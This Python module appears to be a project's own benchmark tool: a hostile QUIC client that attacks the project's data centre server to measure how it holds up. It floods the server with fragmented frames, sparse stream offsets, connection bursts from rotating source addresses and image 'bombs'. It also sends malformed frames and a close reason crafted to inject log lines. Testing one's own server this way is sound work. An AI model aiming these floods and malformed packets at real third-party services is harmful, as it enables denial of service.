"""What a hostile client does to a data centre, as a program of its own.

    python -m edgesight.bench.link.attacks ATTACK HOST PORT SECONDS SOURCES KEYS

goes at the data centre at HOST and PORT for so many SECONDS by one ATTACK of `ATTACKS`, again and again, from the IP
addresses SOURCES (with commas between) in turn. KEYS is the folder of an edge that was enrolled and has turned; attacks
of strangers leave it alone. It runs on one core, and prints a JSON line of what it did. Whatever the data centre does
about an attack, the next round begins.

aioquic makes the packets and their protection; what is in them is put there by hand, since no public interface of it
sends what the standard forbids.

Words owned here: attack, round, stranger (who has no keys), turned edge.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import os
import random
import ssl
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, cast

import numpy as np
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.buffer import encode_uint_var
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted, QuicEvent, StreamDataReceived
from aioquic.quic.packet import QuicPacketType
from aioquic.quic.packet_builder import QuicPacketBuilder
from aioquic.tls import Epoch
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding

from edgesight.host.link.datagrams import MAX_DATAGRAM, REQUEST_BITS, Form, Kind, Strip
from edgesight.host.link.enrollment import MAX_LINE
from edgesight.host.link.jpeg import jpeg_tables
from edgesight.host.link.keys import ALPN, ENROLL_ALPN, client_keys, configuration
from edgesight.host.link.quic import PROTOCOL, Hello, Welcome
from edgesight.host.link.strips import QUALITY, cut, encode

IDLE_S = 10.0  # of a connection here; the data centre's own limit is what ends it
STEP_S = 0.002  # between packets of one worker: 500 a second, four workers make 2,000
WORKERS = 4
MEET_WITHIN_S = 5.0
BURST = 400  # connections
MANY = 64  # connections of one edge
REQUESTS_PER_S = 1_000
BOMBS_PER_S = 10  # datagrams, each of as many images as it holds
_PACKETS = 100  # of a round of pieces
_ROOM = 1_020  # bytes of frames in a packet
_REASON = b"x\nedge 'door' was enrolled from 10.0.0.1\n\x1b[31m"

_INITIAL = (Epoch.INITIAL, QuicPacketType.INITIAL)
_APPLICATION = (Epoch.ONE_RTT, QuicPacketType.ONE_RTT)


@dataclass
class Site:
    """Where an attack goes, from where, and what it did so far."""

    address: tuple[str, int]
    keys: Path
    until: float  # of the loop's clock
    sources: itertools.cycle[str]
    chance: random.Random
    done: dict[str, int] = field(default_factory=lambda: {"rounds": 0, "connections": 0, "packets": 0, "bytes": 0})

    @property
    def over(self) -> bool:
        """Whether its time is up."""
        return asyncio.get_running_loop().time() >= self.until


class Hostile(QuicConnectionProtocol):
    """A client that sends what it likes."""

    def __init__(self, quic: QuicConnection, site: Site, quiet: bool = False) -> None:
        """`quiet`: does what the address check asks for, and lets aioquic say no more."""
        super().__init__(quic)
        self.met: asyncio.Future[None] = self._loop.create_future()
        self.ended: asyncio.Future[None] = self._loop.create_future()
        self.checked: asyncio.Future[None] = self._loop.create_future()  # the address
        self.line: asyncio.Future[bytes] = self._loop.create_future()  # the data centre's first
        self._said = b""
        self._site = site
        self._quiet = quiet

    def datagram_received(self, data: bytes | str, addr: Any) -> None:
        """Listen as aioquic does, unless quiet."""
        if not self._quiet:
            super().datagram_received(data, addr)
        elif not self.checked.done():
            self._quic.receive_datagram(cast(bytes, data), addr, now=self._loop.time())
            if self._quic._peer_token:
                self.checked.set_result(None)

    def quic_event_received(self, event: QuicEvent) -> None:
        """Note what a round may wait for."""
        if isinstance(event, HandshakeCompleted) and not self.met.done():
            self.met.set_result(None)
        elif isinstance(event, ConnectionTerminated) and not self.ended.done():
            self.ended.set_result(None)
        elif isinstance(event, StreamDataReceived) and not self.line.done():
            self._said += event.data[: MAX_LINE * 4]
            if b"\n" in self._said:
                self.line.set_result(self._said.partition(b"\n")[0])

    @property
    def able(self) -> bool:
        """Whether a packet can still be made and sent."""
        return not self.ended.done() and self._transport is not None and not self._transport.is_closing()

    def say(self, line: bytes) -> None:
        """Send `line` on the first stream, as an edge does."""
        self._quic.send_stream_data(0, line)
        self.transmit()

    def inject(self, frames: bytes, where: tuple[Epoch, QuicPacketType] = _APPLICATION) -> None:
        """Send a packet of these very `frames`."""
        quic = self._quic
        epoch, kind = where
        if not self.able or not quic._cryptos[epoch].send.is_valid():
            return
        builder = QuicPacketBuilder(
            host_cid=quic.host_cid,
            is_client=True,
            max_datagram_size=1_200,
            packet_number=quic._packet_number,
            peer_cid=quic._peer_cid.cid,
            peer_token=quic._peer_token,
            version=quic._version or quic._configuration.supported_versions[0],
        )
        builder.start_packet(kind, quic._cryptos[epoch])
        builder.start_frame(frames[0]).push_bytes(frames[1:])
        datagrams, _ = builder.flush()
        quic._packet_number = builder.packet_number
        for datagram in datagrams:
            self._site.done["packets"] += 1
            self._site.done["bytes"] += len(datagram)
            cast(asyncio.DatagramTransport, self._transport).sendto(datagram)


class _Certificate:
    """What aioquic shows for a certificate: any bytes."""

    def __init__(self, content: bytes, like: x509.Certificate) -> None:
        self._content, self._like = content, like

    def public_bytes(self, encoding: Encoding) -> bytes:
        return self._content

    def __getattr__(self, name: str) -> Any:
        return getattr(self._like, name)


def stranger(alpn: str) -> QuicConfiguration:
    """The configuration of a client without keys."""
    made = configuration(is_client=True, alpn=[alpn], idle_timeout=IDLE_S)
    made.verify_mode = ssl.CERT_NONE
    return made


@contextlib.asynccontextmanager
async def connection(site: Site, made: QuicConfiguration, quiet: bool = False) -> AsyncIterator[Hostile]:
    """A connection to the data centre that has just been begun."""
    source = next(site.sources)
    transport, client = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: Hostile(QuicConnection(configuration=made), site, quiet),
        local_addr=(source, 0),
        remote_addr=site.address,
    )
    site.done["connections"] += 1
    try:
        client.connect(site.address)
        yield client
    finally:
        transport.abort()  # and nothing is said


async def _met(client: Hostile) -> bool:
    """Wait for the handshake; whether it was completed."""
    await asyncio.wait([client.met, client.ended], timeout=MEET_WITHIN_S, return_when=asyncio.FIRST_COMPLETED)
    return client.met.done() and client.able


# ------------------------------------------------------------------------------- rounds, one a kind of attack


async def _pieces(client: Hostile, head: bytes, where: tuple[Epoch, QuicPacketType], site: Site) -> None:
    """Packets of one-byte pieces with a hole before each."""
    offset = 3
    for _ in range(_PACKETS):
        frames = b""
        while len(frames) < _ROOM:
            frames += head + encode_uint_var(offset) + b"\x01x"
            offset += 2
        if not client.able or site.over:
            return
        client.inject(frames, where)
        await asyncio.sleep(STEP_S)


async def pieces_of_a_handshake(site: Site) -> None:
    """Pieces of a ClientHello, right behind the address check."""
    async with connection(site, stranger(ALPN), quiet=True) as client:
        await asyncio.wait([client.checked], timeout=MEET_WITHIN_S)
        if client.checked.done():
            client.inject((b"\x06\x00\x01\x01").ljust(_ROOM, b"\0"), _INITIAL)
            await _pieces(client, b"\x06", _INITIAL, site)


async def pieces_of_a_stream(site: Site) -> None:
    """Pieces of a stream, behind a handshake without a certificate."""
    async with connection(site, stranger(ENROLL_ALPN)) as client:
        if await _met(client):
            client._quic._get_or_create_stream_for_send(0)
            await _pieces(client, b"\x0e\x00", _APPLICATION, site)


async def holes(site: Site) -> None:
    """A byte of a stream at 1 MiB, 2 MiB, ... 64 MiB, behind a handshake without a certificate."""
    async with connection(site, stranger(ENROLL_ALPN)) as client:
        if not await _met(client):
            return
        client._quic._get_or_create_stream_for_send(0)
        for power in range(20, 27):
            client.inject(b"\x0e\x00" + encode_uint_var((1 << power) - 1) + b"\x01x")
            await asyncio.sleep(0.05)  # the window grows by what came
        await asyncio.wait([client.ended], timeout=2.0)


async def burst(site: Site) -> None:
    """Connections all at once, each a whole handshake without a certificate."""
    async with contextlib.AsyncExitStack() as stack:
        begun = asyncio.get_running_loop().time()
        clients = []
        for _ in range(BURST):
            clients.append(await stack.enter_async_context(connection(site, stranger(ALPN))))
        await asyncio.wait([client.ended for client in clients], timeout=MEET_WITHIN_S)
        await asyncio.sleep(max(begun + MEET_WITHIN_S - asyncio.get_running_loop().time(), 0.0))


async def _welcomed(site: Site, client: Hostile) -> Welcome | None:
    """Say hello as an edge does, and wait for the welcome."""
    if not await _met(client):
        return None
    client.say(Hello(protocol=PROTOCOL, jpeg_tables=jpeg_tables()).model_dump_json().encode() + b"\n")
    first: list[asyncio.Future[Any]] = [client.line, client.ended]
    await asyncio.wait(first, timeout=MEET_WITHIN_S, return_when=asyncio.FIRST_COMPLETED)
    return Welcome.model_validate_json(client.line.result()) if client.line.done() else None


async def many_connections(site: Site) -> None:
    """A turned edge takes as many connections as it can, and stays."""

    async def one() -> None:
        async with connection(site, client_keys(site.keys, IDLE_S).configuration) as client:
            if await _welcomed(site, client) is None:
                await asyncio.sleep(0.5)
            while client.able and not site.over:
                client.inject(b"\x01" + bytes(8))  # PING
                await asyncio.sleep(0.5)

    async def again() -> None:
        while not site.over:
            with contextlib.suppress(OSError):
                await one()

    await asyncio.gather(*(again() for _ in range(MANY)))


async def _datagrams(site: Site, per_s: float, make: Callable[[int, int], bytes]) -> None:
    """A turned edge's datagrams at a steady rate; `make` gets the session and the datagram's number."""
    async with connection(site, client_keys(site.keys, IDLE_S).configuration) as client:
        welcome = await _welcomed(site, client)
        if welcome is None:
            return
        loop = asyncio.get_running_loop()
        begun = loop.time()
        for number in itertools.count():
            if site.over or not client.able:
                return
            datagram = make(welcome.session, number)
            client.inject(b"\x31" + encode_uint_var(len(datagram)) + datagram)
            await asyncio.sleep(begun + (number + 1) / per_s - loop.time())


async def many_requests(site: Site) -> None:
    """A turned edge asks a thousand times a second, with time to wait."""
    image = np.full((8, 8, 1), 128, np.uint8)

    def make(session: int, number: int) -> bytes:
        strips = cut(image, request=session << REQUEST_BITS | number, left_ms=60_000)
        return strips[0]

    await _datagrams(site, REQUESTS_PER_S, make)


async def _bombs(site: Site, side: int, kind: Kind = Kind.JPEG) -> None:
    (payload,) = encode(np.zeros((8, 8, 1), np.uint8), kind=kind).payloads
    count = 1 if kind.entire else 2
    requests = itertools.count()

    def make(session: int, number: int) -> bytes:
        datagram = b""
        while True:
            height, width = (side - site.chance.randrange(min(side // 4, 200)) for _ in range(2))
            form = Form(kind, height, width, 1, QUALITY, count)
            strip = Strip(session << REQUEST_BITS | next(requests), 0, 100, form, 0, payload).pack()
            if len(datagram) + len(strip) > MAX_DATAGRAM:
                return datagram
            datagram += strip

    await _datagrams(site, BOMBS_PER_S, make)


async def bombs_of_224(site: Site) -> None:
    """Datagrams of a turned edge, each of dozens of images of 224 pixels a side that have one block."""
    await _bombs(site, 224)


async def bombs_of_1024(site: Site) -> None:
    """The same with 1024 pixels a side."""
    await _bombs(site, 1_024)


async def bombs_that_are_entire(site: Site) -> None:
    """The same of images that travel entire: each is complete, and its JPEG ends behind the first block."""
    await _bombs(site, 1_024, Kind.WHOLE)


async def faults(site: Site) -> None:
    """What aioquic stumbles over: identities retired before they were told, too many of them, a certificate of version
    9; and a farewell that would write lines of the log.
    """
    kind = site.done["rounds"] % 4
    made = stranger(ENROLL_ALPN)
    if kind == 2:
        made = client_keys(site.keys, IDLE_S).configuration
        shown = made.certificate.public_bytes(Encoding.DER)
        made.certificate = _Certificate(
            shown.replace(b"\xa0\x03\x02\x01\x02", b"\xa0\x03\x02\x01\x08", 1), made.certificate
        )
    async with connection(site, made) as client:
        if not await _met(client):
            return
        if kind == 0:
            client.inject(b"\x19\x01\x19\x08" + bytes(20))
        elif kind == 1:
            for number in range(1, 12):
                identity = encode_uint_var(number) + encode_uint_var(number) + b"\x08" + os.urandom(8) + os.urandom(16)
                client.inject(b"\x18" + identity)
        elif kind == 3:
            client.inject(b"\x1d" + encode_uint_var(0xE5) + encode_uint_var(len(_REASON)) + _REASON)
        await asyncio.wait([client.ended], timeout=0.1)


async def first_packets(site: Site) -> None:
    """First packets from anywhere, without an end: each wants an address check."""
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(
        asyncio.DatagramProtocol, local_addr=(next(site.sources), 0), remote_addr=site.address
    )
    try:
        for _ in range(_PACKETS):
            client = QuicConnection(configuration=stranger(ALPN))
            client.connect(site.address, now=loop.time())
            for datagram, _ in client.datagrams_to_send(now=loop.time()):
                site.done["packets"] += 1
                site.done["bytes"] += len(datagram)
                transport.sendto(datagram)
            await asyncio.sleep(STEP_S)
    finally:
        transport.abort()


Round = Callable[[Site], Awaitable[None]]


@dataclass(frozen=True)
class Attack:
    """A kind of attack.

    Attributes:
        title: for people.
        round: made again and again until the time is up.
        workers: rounds at a time.
        side: pixels of the model's input that it needs, 0 where any will do.
        keeps_out: it keeps others from coming in, so an edge that comes while it lasts is what is looked at.
    """

    title: str
    round: Round
    workers: int = WORKERS
    side: int = 0
    keeps_out: bool = False


ATTACKS: dict[str, Attack] = {
    "handshake-pieces": Attack("pieces before the handshake", pieces_of_a_handshake),
    "stream-pieces": Attack("pieces in a stream", pieces_of_a_stream),
    "holes": Attack("holes in a stream", holes),
    "burst": Attack("400 connections in a burst", burst, workers=1),
    "first-packets": Attack("first packets without an end", first_packets),
    "connections": Attack("64 connections of one edge", many_connections, workers=1, keeps_out=True),
    "requests": Attack("1,000 requests/s of one edge", many_requests, workers=1),
    "faults": Attack("faults that aioquic lets through", faults),
    "bombs-224": Attack("one-strip images of 224 pixels", bombs_of_224, workers=1, side=224),
    "bombs-1024": Attack("one-strip images of 1024 pixels", bombs_of_1024, workers=1, side=1_024),
    "bombs-entire": Attack("entire images of 1024 pixels", bombs_that_are_entire, workers=1, side=1_024),
}


async def attack(name: str, site: Site) -> dict[str, int]:
    """Go at `site` by the attack of that name until its time is up; what was done."""

    async def again() -> None:
        while not site.over:
            # Whatever becomes of a round: a data centre that hangs up, or answers nothing, is attacked anew.
            with contextlib.suppress(OSError, ConnectionError, ValueError, asyncio.TimeoutError):
                await ATTACKS[name].round(site)
            site.done["rounds"] += 1
            await asyncio.sleep(STEP_S)

    workers = [asyncio.ensure_future(again()) for _ in range(ATTACKS[name].workers)]
    await asyncio.wait(workers, timeout=max(site.until - asyncio.get_running_loop().time(), 0.0) + 1.0)
    for worker in workers:
        worker.cancel()
    await asyncio.gather(*workers, return_exceptions=True)
    return site.done


def main() -> None:
    """Attack as the command line says."""
    name, host, port, seconds, sources, keys = sys.argv[1:]
    os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})

    async def run() -> dict[str, int]:
        until = asyncio.get_running_loop().time() + float(seconds)
        site = Site((host, int(port)), Path(keys), until, itertools.cycle(sources.split(",")), random.Random(name))
        return await attack(name, site)

    print(json.dumps(asyncio.run(run())))


if __name__ == "__main__":
    main()
